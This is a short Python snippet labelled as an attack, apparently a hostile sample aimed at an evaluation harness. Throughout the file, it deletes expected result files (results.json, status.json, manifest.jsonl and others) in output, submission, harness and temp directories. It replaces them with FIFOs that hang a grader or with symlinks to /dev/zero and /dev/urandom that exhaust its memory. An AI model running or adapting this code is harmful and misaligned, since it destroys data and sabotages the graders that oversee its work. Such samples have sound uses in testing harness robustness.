# attack: booby-trap result paths (a grader that opens a FIFO blocks; one that follows a link to
# /dev/zero reads until it runs out of memory)
import os as _os

_names = ["manifest.jsonl", "cells.jsonl", "status.json", "executed.ipynb", "job.json", "results.json"]
_names += [f"{c}-{n:03d}.{ext}" for c in ("linear", "feature", "retention", "normalizer_parallel")
           for n in range(3) for ext in ("npz", "json")]
for _dir in ("/out", "/submission", ".", "/tmp", "/harness", "/tmp/out"):
    for _i, _name in enumerate(_names):
        _path = _os.path.join(_dir, _name)
        try:
            if _os.path.lexists(_path):
                _os.unlink(_path)
            if _i % 3 == 0:
                _os.mkfifo(_path)
            else:
                _os.symlink("/dev/zero" if _i % 3 == 1 else "/dev/urandom", _path)
        except OSError:
            pass
